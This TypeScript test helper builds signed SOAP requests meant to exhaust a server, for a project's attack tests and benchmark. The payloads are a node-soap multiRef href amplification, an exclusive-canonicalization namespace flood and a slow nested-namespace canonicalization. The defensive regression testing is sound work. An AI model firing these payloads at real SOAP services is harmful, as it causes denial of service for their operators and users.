/**
 * Validly signed SOAP requests built to cost the server far more than their size: the attacks of
 * issue 11 items 5 and 6, shared by the attack tests and `npm run bench:soap-hostile`. They are
 * signed by xmlsec1 (libxmlsec, an independent signer whose own canonicalization is fast), with a
 * Timestamp and a BinarySecurityToken as any WS-Security client sends them.
 */
import { spawn } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';

const SOAP = 'http://schemas.xmlsoap.org/soap/envelope/';
const WSU = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd';
const WSSE = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd';
const X509V3 = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-x509-token-profile-1.0#X509v3';
const BASE64 = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#Base64Binary';
const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
export const METER_USAGE_NS = 'urn:smt-platform:meter-usage:v1';

export interface Signer {
  certificatePem: string;
  privateKeyPem: string;
}

export interface HostileRequest {
  /** The payload element, the soap:Body's only child. */
  body: string;
  /** Namespace declarations added to the Envelope (` xmlns:p="…"` …). */
  envelopeNamespaces?: string;
  /** An exc-c14n InclusiveNamespaces PrefixList for SignedInfo and both References. */
  prefixList?: string;
}

const daily = (inside: string) =>
  `<GetDailyReads xmlns="${METER_USAGE_NS}"><trans_id>H-1</trans_id><requestorID>demo-rep</requestorID>` +
  `<requesterAuthenticationID>200000001</requesterAuthenticationID><esiid>10443720000000001</esiid>` +
  `<startDate>07/01/2025</startDate><endDate>07/02/2025</endDate>${inside}</GetDailyReads>`;

/**
 * Item 5: node-soap copies the `id` element's object into every `href` element that points to it,
 * on the main thread: 2,500 references to one element of 2,500 children (about 58 KB) took seconds
 * and hundreds of MB before the handler ran.
 */
export function multiRefRequest(references = 2500, children = 2500): HostileRequest {
  // Children of distinct names: each becomes a property that is copied into every referring object.
  const inside = Array.from({ length: children }, (_, i) => `<c${i.toString(36)}/>`).join('');
  return { body: daily(`${'<a href="#r"/>'.repeat(references)}<r id="r">${inside}</r>`) };
}

const prefixes = (count: number, from = 0) => Array.from({ length: count }, (_, i) => `n${(from + i).toString(36)}`);

/**
 * Item 6, over the limits: thousands of namespace declarations on the Envelope, all named in the
 * exc-c14n PrefixList, above a Body of thousands of children. xml-crypto's exclusive
 * canonicalization copies every rendered prefix for every child node, for each Reference and for
 * SignedInfo: about 100 KB that takes seconds to verify.
 */
export function namespaceFloodRequest(declarations = 3000, children = 12_000): HostileRequest {
  const names = prefixes(declarations);
  return {
    body: daily(`<x>${'<b/>'.repeat(children)}</x>`),
    envelopeNamespaces: names.map((p) => ` xmlns:${p}="urn:n"`).join(''),
    prefixList: names.join(' '),
  };
}

/**
 * Item 6, within the limits: nested elements that each declare and use `perLevel` namespaces (no
 * more than the per-element caps allow), so the innermost ones carry hundreds of prefixes in scope,
 * and below them `children` elements that each use `attributes` of those prefixes. Costs seconds of
 * canonicalization without breaking any per-element cap: only the verification time budget stops it.
 */
export function slowCanonicalizationRequest(levels = 26, perLevel = 30, children = 4000, attributes = 24): HostileRequest {
  let open = '';
  let close = '';
  for (let level = 0; level < levels; level++) {
    const names = prefixes(perLevel, level * perLevel);
    open += `<l${names.map((p) => ` xmlns:${p}="urn:${p}"`).join('')}${names.map((p) => ` ${p}:a=""`).join('')}>`;
    close = `</l>${close}`;
  }
  const used = prefixes(Math.min(attributes, perLevel), (levels - 1) * perLevel);
  const child = `<c${used.map((p) => ` ${p}:a=""`).join('')}/>`;
  return { body: daily(`${open}${child.repeat(children)}${close}`) };
}

/** A small honest request: the status of a report request (the platform answers NOT_FOUND for an unknown id). */
export function statusRequest(trans = 'S-1'): HostileRequest {
  return {
    body: `<GetUsageRequestStatus xmlns="${METER_USAGE_NS}"><trans_id>${trans}</trans_id><requestorID>demo-rep</requestorID>` +
      '<correlationId>00000000-0000-0000-0000-000000000000</correlationId></GetUsageRequestStatus>',
  };
}

const iso = (at: Date) => `${at.toISOString().slice(0, 19)}Z`;

/** Signs the request with xmlsec1: Body and Timestamp, exc-c14n, rsa-sha256, the certificate as a BinarySecurityToken. */
export async function signRequest(signer: Signer, request: HostileRequest, now = new Date()): Promise<string> {
  const token = signer.certificatePem.replace(/-----[^-]+-----|\s/g, '');
  const c14n = request.prefixList ? `<ec:InclusiveNamespaces xmlns:ec="${EXC_C14N}" PrefixList="${request.prefixList}"/>` : '';
  const reference = (id: string) =>
    `<ds:Reference URI="#${id}"><ds:Transforms><ds:Transform Algorithm="${EXC_C14N}">${c14n}</ds:Transform></ds:Transforms>` +
    '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue/></ds:Reference>';
  const template =
    `<soap:Envelope xmlns:soap="${SOAP}" xmlns:wsu="${WSU}" xmlns:wsse="${WSSE}"${request.envelopeNamespaces ?? ''}><soap:Header><wsse:Security soap:mustUnderstand="1">` +
    `<wsu:Timestamp wsu:Id="ts-1"><wsu:Created>${iso(now)}</wsu:Created><wsu:Expires>${iso(new Date(now.getTime() + 300_000))}</wsu:Expires></wsu:Timestamp>` +
    `<wsse:BinarySecurityToken EncodingType="${BASE64}" ValueType="${X509V3}" wsu:Id="token-1">${token}</wsse:BinarySecurityToken>` +
    '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>' +
    `<ds:CanonicalizationMethod Algorithm="${EXC_C14N}">${c14n}</ds:CanonicalizationMethod>` +
    `<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>${reference('body-1')}${reference('ts-1')}` +
    '</ds:SignedInfo><ds:SignatureValue/><ds:KeyInfo><wsse:SecurityTokenReference>' +
    `<wsse:Reference URI="#token-1" ValueType="${X509V3}"/></wsse:SecurityTokenReference></ds:KeyInfo></ds:Signature>` +
    `</wsse:Security></soap:Header><soap:Body wsu:Id="body-1">${request.body}</soap:Body></soap:Envelope>`;
  const dir = await mkdtemp(path.join(tmpdir(), 'smt-hostile-'));
  try {
    await writeFile(path.join(dir, 'template.xml'), template);
    await writeFile(path.join(dir, 'key.pem'), signer.privateKeyPem, { mode: 0o600 });
    return await xmlsec1(['--sign', '--privkey-pem', path.join(dir, 'key.pem'),
      '--id-attr:Id', `${SOAP}:Body`, '--id-attr:Id', `${WSU}:Timestamp`, path.join(dir, 'template.xml')]);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

function xmlsec1(args: string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn('xmlsec1', args, { stdio: ['ignore', 'pipe', 'pipe'] });
    const out: Buffer[] = [];
    let err = '';
    child.stdout.on('data', (chunk: Buffer) => out.push(chunk));
    child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
    child.on('error', reject);
    child.on('close', (status) => (status === 0 ? resolve(Buffer.concat(out).toString('utf8')) : reject(new Error(`xmlsec1 failed: ${err.slice(0, 500)}`))));
  });
}
